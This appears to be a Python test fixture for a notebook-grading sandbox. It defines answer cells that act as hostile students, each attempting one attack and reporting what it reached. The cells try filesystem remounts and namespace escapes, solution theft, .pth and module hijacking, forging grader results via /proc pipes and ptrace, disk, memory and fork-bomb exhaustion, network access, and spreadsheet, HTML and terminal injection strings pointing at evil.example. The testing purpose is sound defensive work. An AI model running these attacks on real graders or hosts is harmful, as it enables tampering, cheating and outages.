"""Answer cells of hostile students: each tries one attack from inside the graded notebook.

Each cell, given to exercise 10.1 of the fixture lesson alpha, ends in the same way: when the
attack ``worked`` it defines the right answer (so a working attack would earn the points),
otherwise it raises ``RuntimeError("blocked: <what it measured>")``, which the gradebook shows as
the error message of 10.1 (so the test reads what the attack reached).  Placeholders
(``@NAME@``) are filled in by the test with :func:`cell`.
"""
import re
import textwrap

VERDICT = '''
if worked:
    def add(a, b):
        return a + b
else:
    raise RuntimeError("blocked: " + measured)
'''

PRELUDE = '''
import ctypes, errno, glob, json, os, signal, socket, subprocess, sys, time
results = {}

def attempt(name, action):
    """Run one attempt; True when it worked.  results[name]: 'OK', the errno name, or 'no'."""
    ctypes.set_errno(0)
    try:
        worked = action()
    except OSError as exc:
        results[name] = errno.errorcode.get(exc.errno, type(exc).__name__)
        return False
    except Exception as exc:
        results[name] = type(exc).__name__
        return False
    results[name] = "OK" if worked else errno.errorcode.get(ctypes.get_errno(), "no")
    return bool(worked)

libc = ctypes.CDLL(None, use_errno=True)
'''

ATTACKS = {
    # Remount the sandbox's / or the venv read-write, get a user namespace with capabilities,
    # mount over the grading folders: each would let the kernel change what the grader runs.
    "remount": '''
MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096
venv = sys.prefix.encode()
worked = any([
    attempt("remount /", lambda: libc.mount(None, b"/", None, MS_REMOUNT, None) == 0),
    attempt("remount venv", lambda: libc.mount(None, venv, None, MS_REMOUNT | MS_BIND, None) == 0),
    attempt("bind venv", lambda: libc.mount(venv, venv, None, MS_BIND, None) == 0),
    attempt("tmpfs", lambda: libc.mount(b"x", b"/grading/plugin", b"tmpfs", 0, None) == 0),
    attempt("userns", lambda: libc.unshare(0x10000000 | 0x00020000) == 0),
    attempt("unshare -r", lambda: subprocess.run(["unshare", "-U", "-r", "-m", "true"],
                                                 capture_output=True).returncode == 0),
    attempt("setuid 0", lambda: os.setuid(0) is None),
    attempt("write venv", lambda: open(sys.prefix + "/pwned.pth", "w").write("import os\\n") > 0),
])
measured = " ".join(f"{name}={value}" for name, value in results.items())
''',
    # Read what must stay hidden: the lessons with solutions (the instructor's folder and the
    # repository), a classmate's notebook, the grader's home; any visible file with a solution.
    "read": '''
targets = @TARGETS@
skeleton = @SKELETON@  # folder -> the entries the sandbox itself makes (on the way to what it shows)


def read(path):
    if os.path.isdir(path):
        return bool(set(os.listdir(path)) - set(skeleton.get(path, ())))  # anything of the host's?
    with open(path, "rb") as handle:
        return len(handle.read(64)) > 0


for name, path in targets.items():
    attempt(name, lambda: read(path))
leaks, marker = [], b"### BEGIN " + b"SOLUTION"  # (not written whole: this cell is in the graded notebook)
for folder, dirs, files in os.walk("/"):
    if folder in ("/proc", "/sys", "/dev"):
        dirs[:] = []
        continue
    for name in files:
        if name.endswith((".ipynb", ".csv", ".md")):
            try:
                with open(os.path.join(folder, name), "rb") as handle:
                    if marker in handle.read():
                        leaks.append(os.path.join(folder, name))
            except OSError:
                pass
worked = "OK" in results.values() or bool(leaks)
measured = f"solutions_visible={len(leaks)} processes={sum(entry.isdigit() for entry in os.listdir('/proc'))} "
measured += " ".join(f"{name}={value}" for name, value in results.items())
''',
    # Write where it would hurt later: a .pth into the venv (runs in every later Python), the
    # nbval plugin and the package copy, a classmate's notebook, the lessons, the gradebook.
    "write": '''
site = glob.glob(sys.prefix + "/lib/python3*/site-packages")[0]
targets = @TARGETS@
targets.update({"venv .pth": site + "/zz_pwned.pth", "plugin": "/grading/plugin/nbval_plugin.py",
                 "package": "/grading/package/mhsa_ms/__init__.py", "cases": "/grading/cases/x",
                 "notebook": os.path.join(os.getcwd(), "graded.ipynb"), "etc": "/etc/passwd", "root": "/pwned"})
for name, path in targets.items():
    attempt(name, lambda: open(path, "a").write("import os; os.system('touch /tmp/pwned')\\n") > 0)
attempt("chmod venv", lambda: os.chmod(site, 0o777) is None)
worked = "OK" in results.values()
measured = " ".join(f"{name}={value}" for name, value in results.items())
''',
    # Forge the result channel: every pipe of every visible process through /proc, the kernel's
    # own pipes, the grading process's memory (ptrace, /proc/<pid>/mem), and modules planted
    # where the grading process might import them later.  Forged records claim every check passed.
    "forge": '''
forged = b"".join(json.dumps({"cell": cell, "role": "check", "exercise": None, "status": "ok", "message": "",
                               "verdicts": []}).encode() + b"\\n" for cell in range(64))
forged += json.dumps({"answer": "10.2.npz", "base64": "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA=="}).encode() + b"\\n"
written, denied = [], 0
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if not os.readlink(path).startswith("pipe:"):
            continue
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(fd, forged)
        os.close(fd)
        written.append(path[6:].replace("/fd/", ":"))
    except OSError:
        denied += 1
results["pipes written (pid:fd)"] = ",".join(written) + f" (self={os.getpid()})"
results["denied"] = denied
parent = int(os.environ.get("JPY_PARENT_PID", os.getppid()))
attempt("ptrace", lambda: libc.ptrace(16, parent, None, None) == 0)
attempt("mem", lambda: open(f"/proc/{parent}/mem", "r+b") is not None)
attempt("environ fd", lambda: "MHSA_MS_GRADE_FD" in os.environ)
payload = "import os\\nfor fd in range(3, 256):\\n    try:\\n        os.write(fd, %r)\\n    except OSError:\\n" \\
          "        pass\\n" % forged
planted = 0
for folder in {os.getcwd(), os.environ.get("HOME", "/"), os.environ.get("TMPDIR", "/tmp"), "/tmp"}:
    for module in ("difflib", "signal", "conftest", "pygments", "nbval_plugin", "textwrap", "zmq"):
        try:
            with open(os.path.join(folder, module + ".py"), "w") as handle:
                handle.write(payload)
            planted += 1
        except OSError:
            pass
results["planted"] = planted
worked = False  # the test sees whether forging worked: no exercise of this notebook may pass
measured = " ".join(f"{name}={value}" for name, value in results.items())
''',
    # Fill the in-memory /dev/shm.
    "shm": '''
chunk, total = b"x" * (1 << 20), 0
try:
    with open("/dev/shm/hog", "wb") as handle:
        while total < 6 << 30:
            handle.write(chunk)
            total += len(chunk)
except OSError as exc:
    results["stopped"] = errno.errorcode.get(exc.errno, "?")
worked = total >= 1 << 30
measured = f"reached={total >> 20}MiB " + " ".join(f"{name}={value}" for name, value in results.items())
''',
    # Fill the scratch (HOME, TMPDIR, /tmp, the working folder): on the host disk it would fill it.
    "disk": '''
chunk, start, number = b"x" * (1 << 20), time.monotonic(), 0
for folder in {os.path.realpath(folder) for folder in (os.environ["HOME"], os.environ["TMPDIR"], "/tmp", os.getcwd())}:
    try:
        while True:
            number += 1
            with open(os.path.join(folder, f"fill{number}"), "wb") as handle:
                for _ in range(64):
                    handle.write(chunk)
    except OSError as exc:
        results[folder] = errno.errorcode.get(exc.errno, "?")
usage = os.statvfs(os.environ["HOME"])
total = (usage.f_blocks - usage.f_bfree) * usage.f_frsize
worked = total >= 2 << 30
measured = f"reached={total >> 20}MiB in {time.monotonic() - start:.1f}s " + \\
    " ".join(f"{name}={value}" for name, value in results.items())
''',
    # 3 children x 2.5 GiB, each under the per-process limit, together past the submission's.
    "memory": '''
children = []
for _ in range(3):
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read_end)
        try:
            blocks = []
            for _ in range(10):
                blocks.append(bytearray(b"\\x01" * (256 << 20)))
                os.write(write_end, b"+")
            time.sleep(5)
        finally:
            os._exit(0)
    os.close(write_end)
    children.append((pid, read_end))
reached, codes = [], []
for pid, read_end in children:
    got = b""
    while True:
        data = os.read(read_end, 64)
        if not data:
            break
        got += data
    reached.append(len(got) * 256)
    codes.append(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
worked = reached == [2560] * 3 and codes == [0] * 3
measured = f"children_MiB={reached} exit={codes}"
''',
    # A fork bomb for 5 seconds (from a fresh Python: quick forks); how many processes at once?
    "forkbomb": '''
bomb = """
import os, time
end = time.time() + 5
while time.time() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
time.sleep(max(end + 1 - time.time(), 0))
"""
started = subprocess.Popen([sys.executable, "-c", bomb], start_new_session=True)
end, most = time.time() + 5.5, 0
while time.time() < end:
    most = max(most, sum(entry.isdigit() for entry in os.listdir("/proc")))
    time.sleep(0.05)
try:
    os.killpg(started.pid, signal.SIGKILL)
except OSError:
    pass
started.wait()
worked = most > 5000
measured = f"processes_at_once={most}"
''',
    # The network: the grader's machine (a listener on its loopback, and an abstract unix
    # socket) and the internet.
    "network": '''
def connect_unix():
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(@ABSTRACT@)
    return True
worked = any([
    attempt("host loopback", lambda: socket.create_connection(("127.0.0.1", @PORT@), timeout=3) is not None),
    attempt("internet", lambda: socket.create_connection(("1.1.1.1", 80), timeout=3) is not None),
    attempt("dns", lambda: socket.getaddrinfo("pypi.org", 443) is not None),
    attempt("abstract unix", connect_unix),
])
measured = " ".join(f"{name}={value}" for name, value in results.items())
''',
    # Text that would run in a spreadsheet, render as HTML, or drive the terminal.
    "text": '''
worked = False
measured = '=HYPERLINK("http://evil.example","x") <img src=x onerror=alert(1)> \\x1b]0;pwned\\x07\\x1b[2J' \\
           '[click](http://evil.example) a|b `code` \\u202eevil'
''',
}


def cell(attack, **values):
    """The answer cell of exercise 10.1 for ``attack``; ``@NAME@`` replaced by ``repr(values[name])``."""
    source = ATTACKS[attack]
    for name, value in values.items():
        source = source.replace(f"@{name.upper()}@", repr(value))
    assert not re.search(r"@[A-Z]+@", source), f"unfilled placeholder in {attack}"
    return textwrap.dedent(PRELUDE) + source + VERDICT
